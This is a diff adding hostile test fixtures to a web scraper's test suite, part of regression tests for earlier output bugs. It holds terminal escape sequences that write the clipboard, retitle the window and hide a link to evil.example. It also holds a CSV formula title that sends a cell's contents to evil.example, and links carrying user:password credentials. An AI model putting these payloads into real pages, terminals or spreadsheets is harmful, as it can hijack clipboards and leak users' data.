@@ -10,19 +10,50 @@ in `scraper extract`, without the worker limits:
 - `deep_bogus_nesting(100_000)`: 13.6 s; 300,000 levels take minutes. The bogus end tag after each
   open tag fools the guard's pre-check (it counts every "</" as a close), and each block start tag
   walks the whole stack of open elements.
+
+And pages that fool a reader rather than the parser:
+
+- `terminal_escapes_article()`: terminal control sequences in the title, metadata and text, as raw
+  characters and as numeric character references, which `scraper get` once printed as they came.
+- `credential_links_page(base)`: links, canonical and og:url carrying ``user:password@``, which were
+  once crawled, stored and exported with the password.
 """
 
 from __future__ import annotations
 
 __all__ = [
+    "CREDENTIALS",
+    "FORMULA_TITLE",
+    "TERMINAL_ESCAPES",
     "broken_sitemap",
+    "credential_links_page",
     "deep_bogus_nesting",
     "normal_article",
     "reopened_formatting",
     "section_page",
     "sitemap_index",
+    "terminal_escapes_article",
     "urlset",
 ]
+
+# Sequences a terminal obeys when printed text carries them: OSC 52 writes the clipboard, OSC 0 sets
+# the window title, OSC 8 makes a hidden hyperlink, BEL rings, ESC [ and the one-character C1 CSI
+# (U+009B) start a control sequence (here: clear the screen). Some raw, some as character references:
+# the parser decodes "&#27;" into the ESC it means ("&#155;" is U+203A by the HTML5 table, "&#x9d;" is
+# the C1 OSC).
+TERMINAL_ESCAPES = (
+    "\x1b]52;c;ZWNobyBwd25lZA==\x07",
+    "&#27;]0;pwned title&#7;",
+    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
+    "\x9b2J",
+    "&#x1b;[2J",
+    "&#x9d;0;osc&#7;",
+    "\x07\x00\x0b\x0c\r\x7f",
+)
+# A title a spreadsheet would run as a formula if a CSV cell began with it.
+FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
+# The userinfo of every link, canonical and og:url of `credential_links_page`.
+CREDENTIALS = "crawler:s3cret-pw"
 
 
 def reopened_formatting(opened: int = 500, repeats: int = 20_000) -> str:
@@ -69,3 +100,34 @@ def urlset(urls: list[str]) -> str:
     """A plain sitemap listing `urls`."""
     entries = "".join(f"<url><loc>{url}</loc></url>" for url in urls)
     return f'<?xml version="1.0"?><urlset xmlns="{_SITEMAP_NS}">{entries}</urlset>'
+
+
+def terminal_escapes_article() -> str:
+    """An article whose title, author, description, site name and paragraphs carry `TERMINAL_ESCAPES`."""
+    escapes = "".join(TERMINAL_ESCAPES)
+    told = "It is told at some length, with enough words in each paragraph to read as an article. " * 3
+    paragraphs = "".join(f"<p>Paragraph {n} {escapes} of the story. {told}</p>" for n in range(4))
+    head = (
+        f"<title>Escaped {escapes} headline</title>"
+        f'<meta name="author" content="Ann {escapes} Lee">'
+        f'<meta name="description" content="About {escapes} things">'
+        f'<meta property="og:site_name" content="Site {escapes}">'
+    )
+    body = f"<article><h1>Escaped headline</h1>{paragraphs}</article>"
+    return f"<html><head>{head}</head><body>{body}</body></html>"
+
+
+def credential_links_page(base: str, *, title: str = "Section", canonical: bool = True) -> str:
+    """A page at `base` (``http://host:port``) whose article links, canonical (unless not `canonical`)
+    and og:url all carry `CREDENTIALS` as userinfo."""
+    host = base.split("://", 1)[1]
+    secret = f"http://{CREDENTIALS}@{host}"
+    links = "".join(
+        f'<li><a href="{secret}/news/2024/05/a-story-with-many-words-{n}">A story {n}</a></li>'
+        for n in range(3)
+    )
+    told = "It is told at some length, with enough words in each paragraph to read as an article. " * 3
+    canonical_link = f'<link rel="canonical" href="{secret}/canonical">' if canonical else ""
+    head = f'<title>{title}</title>{canonical_link}<meta property="og:url" content="{secret}/og">'
+    body = f"<article><h1>{title}</h1><p>{told}</p><p>{told}</p><ul>{links}</ul></article>"
+    return f"<html><head>{head}</head><body>{body}</body></html>"
